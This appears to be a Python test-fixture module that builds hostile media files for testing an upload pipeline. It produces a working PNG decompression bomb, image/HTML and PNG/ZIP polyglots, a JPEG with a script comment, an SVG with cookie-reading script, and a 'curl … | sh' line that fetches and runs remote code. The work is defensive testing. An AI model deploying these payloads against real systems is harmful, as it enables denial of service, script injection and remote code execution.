"""Test files made on the spot: photos with EXIF and GPS, bombs, polyglots, fake videos."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def _gradient(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    _width, _height = size
    image = Image.linear_gradient("L").resize(size)
    if mode == "L":
        return image
    red = image
    green = image.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
    blue = Image.new("L", size, 90)
    merged = Image.merge("RGB", (red, green, blue))
    return merged.convert(mode) if mode != "RGB" else merged


def jpeg_bytes(
    *,
    size: tuple[int, int] = (64, 48),
    orientation: int | None = None,
    gps: bool = False,
    comment: bytes | None = None,
    quality: int = 85,
) -> bytes:
    image = _gradient(size)
    exif = Image.Exif()
    exif[0x010F] = "TestCam"  # Make
    if orientation is not None:
        exif[0x0112] = orientation
    if gps:
        exif[0x8825] = {1: "S", 2: (33.0, 55.0, 0.0), 3: "E", 4: (18.0, 25.0, 0.0)}
    buffer = io.BytesIO()
    options: dict[str, object] = {"quality": quality, "exif": exif.tobytes()}
    if comment is not None:
        options["comment"] = comment
    image.save(buffer, "JPEG", **options)
    return buffer.getvalue()


def png_bytes(*, size: tuple[int, int] = (64, 48), alpha: bool = False) -> bytes:
    image = _gradient(size, "RGBA" if alpha else "RGB")
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def webp_bytes(*, size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    _gradient(size).save(buffer, "WEBP")
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A real decompression bomb: a 1-bit PNG of widthxheight zeros, compressed to ~100 KB,
    built row by row so the test never holds the pixels."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row * 1000) for _ in range(height // 1000)]
    parts.append(compressor.compress(row * (height % 1000)))
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def png_claiming_size(width: int, height: int) -> bytes:
    """A valid PNG header announcing widthxheight, with a tiny (incomplete) image body."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    """A JPEG whose header is sound but whose image data stops after a few bytes."""
    whole = jpeg_bytes(size=(400, 300))
    return whole[: len(whole) // 3]


def mp4_bytes(size: int = 4096) -> bytes:
    """An MP4 'ftyp' box followed by filler: a video as far as type sniffing goes."""
    head = b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41"
    return head + bytes(range(256)) * ((size - len(head)) // 256 + 1)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def png_with_html_appended() -> bytes:
    """A polyglot: a valid PNG that is also an HTML page with a script after its end."""
    return png_bytes() + HTML_PAGE


def jpeg_with_script_comment() -> bytes:
    return jpeg_bytes(comment=b"<script>alert(1)</script>")


def png_with_zip_appended() -> bytes:
    """A GIFAR-style polyglot: a PNG followed by a ZIP archive."""
    archive = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("payload.class", b"\xca\xfe\xba\xbe")
    return png_bytes() + archive.getvalue()
